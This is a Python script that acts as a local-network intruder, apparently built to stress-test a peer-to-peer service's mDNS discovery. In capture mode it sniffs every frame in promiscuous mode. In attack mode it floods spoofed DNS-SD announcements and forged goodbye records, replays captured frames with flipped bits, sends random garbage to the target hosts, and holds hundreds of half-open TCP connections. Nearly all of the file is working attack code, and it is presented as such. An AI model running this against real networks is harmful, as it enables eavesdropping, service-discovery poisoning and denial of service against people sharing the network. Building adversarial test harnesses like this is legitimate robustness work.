"""An intruder on the local network: sees every frame of it, and sends whatever it likes.

capture FILE      writes every frame that comes by: its length (4 bytes, big-endian), then the frame; until stdin closes
attack SECONDS    prints a line of JSON with what it sent. stdin gives a JSON object first: {"hosts": [[ip, port], ...], "frames": FILE}
"""
import json, os, random, select, socket, struct, sys, time

IFACE = "lan0"
GROUP = ("224.0.0.251", 5353)


def raw():
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    sock.bind((IFACE, 0))
    # PACKET_ADD_MEMBERSHIP, PACKET_MR_PROMISC
    index = socket.if_nametoindex(IFACE)
    sock.setsockopt(263, 1, struct.pack("IHH8s", index, 1, 0, b""))
    return sock


def capture(path):
    sock = raw()
    sock.setsockopt(socket.SOL_SOCKET, 33, 64 * 1024 * 1024)  # SO_RCVBUFFORCE
    frames = size = 0
    with open(path, "wb") as out:
        print(json.dumps({"event": "capturing"}), flush=True)
        while True:
            ready, _, _ = select.select([sock, sys.stdin], [], [])
            if sock in ready:
                frame = sock.recv(65_536)
                frames += 1
                size += len(frame)
                out.write(struct.pack("!I", len(frame)) + frame)
            elif sys.stdin in ready:
                break
    dropped = struct.unpack("II", sock.getsockopt(263, 6, 8))[1]
    print(json.dumps({"event": "captured", "frames": frames, "bytes": size, "dropped": dropped}), flush=True)


def read_frames(path):
    with open(path, "rb") as file:
        data = file.read()
    at, frames = 0, []
    while at + 4 <= len(data):
        (length,) = struct.unpack_from("!I", data, at)
        frames.append(data[at + 4 : at + 4 + length])
        at += 4 + length
    return frames


def name(text):
    return b"".join(bytes([len(part)]) + part.encode() for part in text.split(".")) + b"\0"


def record(owner, kind, ttl, data):
    return name(owner) + struct.pack("!HHIH", kind, 0x8001 if kind != 12 else 1, ttl, len(data)) + data


def response(records):
    return struct.pack("!HHHHHH", 0, 0x8400, 0, len(records), 0, 0) + b"".join(records)


def spoofed(n, ttl):
    """A node in clear that lives somewhere else, as any DNS-SD tool would announce it."""
    service = "_parley._tcp.local"
    instance = "%016x.%s" % (n, service)
    host = "h%x.local" % n
    return response(
        [
            record(service, 12, ttl, name(instance)),
            record(instance, 33, ttl, struct.pack("!HHH", 0, 0, 7878) + name(host)),
            record(instance, 16, ttl, b"\x03v=1" + b"\x33id=z6Mk" + b"1" * 44),
            record(host, 1, ttl, socket.inet_aton("203.0.113.9")),
        ]
    )


def is_mdns(frame):
    return len(frame) > 42 and frame[12:14] == b"\x08\x00" and frame[23] == 17 and frame[36:38] == struct.pack("!H", 5353)


def attack(seconds):
    terms = json.loads(sys.stdin.readline())
    hosts = [tuple(host) for host in terms["hosts"]]
    frames = [frame for frame in read_frames(terms["frames"]) if is_mdns(frame)]
    handshakes = terms.get("firstMessages", [])
    sock = raw()
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
    udp.bind(("", 5353))
    sent = {"spoofed": 0, "goodbyes": 0, "replayed": 0, "garbage": 0, "handshakes": 0, "held": 0, "answered": 0, "answeredBytes": 0}
    held = []
    end = time.monotonic() + seconds
    n = 0
    print(json.dumps({"event": "attacking", "recorded": len(frames)}), flush=True)
    while time.monotonic() < end:
        n += 1
        try:
            for _ in range(20):
                udp.sendto(spoofed(random.getrandbits(48), 120), GROUP)
                sent["spoofed"] += 1
            # Goodbyes for everybody who was ever heard: the recorded records with a time to live of zero, and in clear.
            udp.sendto(spoofed(1, 0), GROUP)
            sent["goodbyes"] += 1
            for frame in random.sample(frames, min(20, len(frames))):
                sock.send(frame)
                sent["replayed"] += 1
                forged = bytearray(frame)
                # The same words from here, and with a bit turned over.
                at = random.randrange(42, len(forged))
                forged[at] ^= 1 << random.randrange(8)
                udp.sendto(bytes(forged[42:]), GROUP)
                sent["goodbyes"] += 1
            for host, port in hosts:
                udp.sendto(os.urandom(random.randrange(1, 1400)), (host, 5353))
                udp.sendto(os.urandom(random.randrange(1, 1400)), (host, port))
                sent["garbage"] += 2
        except OSError:
            pass
        for host, port in hosts:
            for _ in range(3):
                line = socket.socket()
                line.setblocking(False)
                line.connect_ex((host, port))
                held.append((line, n % 3))
                sent["handshakes"] += 1
        kept = []
        for line, kind in held:
            try:
                if kind == 0:
                    line.send(os.urandom(64))
                elif kind == 1 and handshakes:
                    line.send(bytes.fromhex(random.choice(handshakes)))
                answer = line.recv(4096)
                if answer:
                    sent["answered"] += 1
                    sent["answeredBytes"] += len(answer)
                line.close()
            except BlockingIOError:
                kept.append((line, kind))
            except OSError:
                line.close()
        held = kept[-400:]
        for line, _ in kept[:-400]:
            line.close()
        sent["held"] = max(sent["held"], len(held))
        time.sleep(0.02)
    print(json.dumps({"event": "attacked", **sent}), flush=True)


if sys.argv[1] == "capture":
    capture(sys.argv[2])
else:
    attack(float(sys.argv[2]))
